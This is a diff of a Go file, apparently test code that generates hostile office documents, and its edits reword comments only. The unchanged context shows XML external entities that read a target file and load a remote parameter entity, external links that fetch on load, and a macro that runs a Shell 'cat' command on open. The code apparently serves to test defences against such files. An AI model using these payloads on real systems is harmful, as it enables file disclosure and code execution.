@@ -12,13 +12,13 @@ import (
 	"github.com/filewright/filewright/internal/compound"
 )
 
-// hostileOffice returns documents, sheets and slides that link to t in the ways that
-// their formats know, or have macros that reach for it.
+// hostileOffice returns documents, sheets and slides that link to t in every way
+// that their formats support, or have macros that access t.
 func hostileOffice(t target) []*fileops.File {
 	var out []*fileops.File
 	add := func(name, content string) { out = append(out, fileops.Bytes(name, []byte(content))) }
 
-	// OpenDocument: flat, so that links have no package to be relative to, and as
+	// OpenDocument: flat files, in which links cannot be relative to a package, and
 	// packages.
 	add("links.fodt", odfDocument("text", t.repeat(`<style:style style:name="p" style:family="paragraph"><style:paragraph-properties><style:background-image xlink:href="@" xlink:type="simple" xlink:actuate="onLoad"/></style:paragraph-properties></style:style>
 <text:list-style style:name="l"><text:list-level-style-image text:level="1" xlink:href="@" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></text:list-style>`),
@@ -48,13 +48,13 @@ func hostileOffice(t target) []*fileops.File {
 	} {
 		content := strings.NewReplacer("office:document ", "office:document-content ", "office:document>", "office:document-content>").Replace(odfDocument(part[0], "", part[1]))
 		add("links."+ext, odfPackage(part[0], content))
-		// The declaration of an entity stands before the root element.
+		// The entity declaration precedes the root element.
 		add("entity."+ext, odfPackage(part[0], `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "`+t.file+`"><!ENTITY f SYSTEM "`+t.base+`/e"><!ENTITY % p SYSTEM "`+t.base+`/p">%p;]>`+
 			strings.Replace(strings.Replace(content, `<?xml version="1.0" encoding="UTF-8"?>`, "", 1), "</office:body>", "", 1)+`<text:p>&e;&f;</text:p></office:body></office:document-content>`))
 	}
 
-	// Macros: of the document, of the program, in two languages. They run when
-	// the document is opened, if anything lets them.
+	// Macros: of the document and of the program, in two languages. They run when
+	// the document is opened, unless the program prevents that.
 	basic := `Sub Main
   Open "` + t.path + `" For Input As #1
   Shell "cat ` + t.path + `"
@@ -85,7 +85,7 @@ End Sub
 		[]string{"vbaProject|http://schemas.microsoft.com/office/2006/relationships/vbaProject|vbaProject.bin", "sheet|" + officeRel + "worksheet|sheet.xml"},
 		"xl/vbaProject.bin", macros, "xl/sheet.xml", `<worksheet xmlns="`+spreadsheetML+`"><sheetData/></worksheet>`))
 
-	// Office Open XML: every kind of relationship that may point outside.
+	// Office Open XML: every kind of relationship that may have an external target.
 	external := func(kinds ...string) (rels []string, ids map[string][]string) {
 		ids = make(map[string][]string)
 		for _, k := range kinds {
@@ -162,8 +162,8 @@ func odfPackage(kind, content string) string {
 		"META-INF/manifest.xml", `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="`+mime+`"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`)
 }
 
-// relationships returns a part that lists relationships: "id|type|target", with a ! before
-// a target that is outside.
+// relationships returns a part that lists relationships: "id|type|target". A !
+// precedes an external target.
 func relationships(all []string) string {
 	var b strings.Builder
 	for _, r := range all {
@@ -177,8 +177,8 @@ func relationships(all []string) string {
 	return hostileRels(b.String())
 }
 
-// ooxml returns a document, workbook or presentation. main is what is in it; content
-// is the media type of its main part, if not the usual one.
+// ooxml returns a document, workbook or presentation with main as content.
+// content is the media type of its main part, or "" for the default.
 func ooxml(ext, content, main string, rels []string, parts ...string) string {
 	kind := map[string][5]string{
 		"docx": {"word", "document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
@@ -202,7 +202,7 @@ func ooxml(ext, content, main string, rels []string, parts ...string) string {
 		}
 	}
 	doctype := ""
-	if strings.HasPrefix(main, "<!DOCTYPE") { // stands before the root element
+	if strings.HasPrefix(main, "<!DOCTYPE") { // must precede the root element
 		i := strings.Index(main, "]>") + 2
 		doctype, main = main[:i], main[i:]
 	}
@@ -267,7 +267,7 @@ func vba(source string) string {
 	record(0x32, wide(module))
 	record(0x1c, "")
 	record(0x48, "")
-	record(0x31, u32(0)) // where the source begins
+	record(0x31, u32(0)) // offset of the source
 	record(0x1e, u32(0))
 	record(0x2c, u16(0xffff))
 	record(0x22, "") // a document module
@@ -287,12 +287,12 @@ func vba(source string) string {
 		stream("PROJECT", "ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nDocument="+module+"/&H00000000\r\nName=\"Project\"\r\n"),
 	})
 	if err != nil {
-		panic(err) // nothing is written but to memory
+		panic(err) // impossible: writes only to memory
 	}
 	return b.String()
 }
 
-// literal compresses s in the way of [MS-OVBA] 2.4.1, without making it smaller.
+// literal encodes s in the format of [MS-OVBA] 2.4.1, without compression.
 func literal(s string) string {
 	out := []byte{1}
 	for len(s) > 0 {
